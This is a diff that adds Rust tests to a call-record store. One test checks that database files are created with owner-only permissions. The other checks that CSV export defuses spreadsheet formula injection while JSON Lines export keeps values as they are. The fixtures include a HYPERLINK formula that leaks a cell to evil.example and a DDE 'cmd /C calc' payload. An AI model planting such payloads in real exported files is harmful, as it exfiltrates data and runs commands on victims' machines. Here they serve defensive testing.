@@ -502,6 +502,69 @@ fn export_writes_details_as_stored_or_a_flat_csv() {
     });
 }
 
+#[cfg(unix)]
+#[test]
+fn a_new_store_file_is_readable_and_writable_by_its_owner_only() {
+    use std::os::unix::fs::PermissionsExt;
+    let (dir, store) = store();
+    store
+        .store_calls(
+            &[(
+                None,
+                detail(&detail_json(
+                    "svc_call_m",
+                    "roleplay",
+                    "2026-03-01T10:05:00.000Z",
+                    1.0,
+                )),
+            )],
+            &writer(0, None),
+        )
+        .expect("store");
+    for name in ["store.db", "store.db-wal", "store.db-shm"] {
+        let mode = std::fs::metadata(dir.path().join(name))
+            .expect(name)
+            .permissions()
+            .mode();
+        assert_eq!(mode & 0o777, 0o600, "{name} has mode {mode:o}");
+    }
+}
+
+#[test]
+fn a_csv_export_neutralises_formulas_and_json_lines_keep_them_exactly() {
+    let (_dir, store) = store();
+    let mut call = detail_json("svc_call_f", "real_call", "2026-03-01T10:05:00.000Z", 80.0);
+    call["platformAgentId"] = json!("=HYPERLINK(\"http://evil.example/?\"&A1,\"c\")");
+    call["externalUserId"] = json!("+cmd|' /C calc'!A0");
+    call["durationSec"] = json!(-5);
+    store
+        .store_calls(&[(Some(row(&call)), detail(&call))], &writer(0, None))
+        .expect("store");
+    let mut csv = Vec::new();
+    store
+        .export(None, None, ExportFormat::Csv, &mut csv)
+        .expect("export");
+    let mut reader = csv::Reader::from_reader(csv.as_slice());
+    let record = reader
+        .records()
+        .next()
+        .expect("one line")
+        .expect("a record");
+    assert_eq!(
+        &record[4], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"c\")",
+        "a formula becomes text"
+    );
+    assert_eq!(&record[6], "'+cmd|' /C calc'!A0");
+    assert_eq!(&record[11], "-5", "a negative number stays a number");
+    let mut jsonl = Vec::new();
+    store
+        .export(None, None, ExportFormat::Jsonl, &mut jsonl)
+        .expect("export");
+    let line: Value = serde_json::from_slice(&jsonl).expect("one JSON line");
+    assert_eq!(line["platformAgentId"], call["platformAgentId"]);
+    assert_eq!(line["externalUserId"], call["externalUserId"]);
+}
+
 #[test]
 fn the_report_reads_calls_and_days_on_both_backends() {
     on_each_backend("the_report_reads_calls_and_days", |store| {
